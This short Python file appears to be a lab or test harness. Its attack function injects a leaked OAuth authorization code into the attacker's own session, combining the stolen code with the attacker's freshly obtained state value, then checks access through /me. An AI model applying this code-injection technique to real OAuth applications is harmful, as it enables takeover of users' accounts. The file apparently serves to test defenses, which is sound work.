"""A stolen code in our own session: state is ours, the code is not."""

from urllib.parse import parse_qsl, urlsplit

import requests


def attack(exercise):
    exercise.victim.signs_in()
    stolen = exercise.leaks()["callback_url"]

    with requests.Session() as mine:
        login = mine.get(f"{exercise.app}/login", allow_redirects=False)
        request = dict(parse_qsl(urlsplit(login.headers["Location"]).query))

        answer = {
            "code": stolen["code"],
            "state": request["state"],
            "iss": exercise.issuer,
        }
        mine.get(f"{exercise.app}/callback", params=answer)
        mine.get(f"{exercise.app}/me")
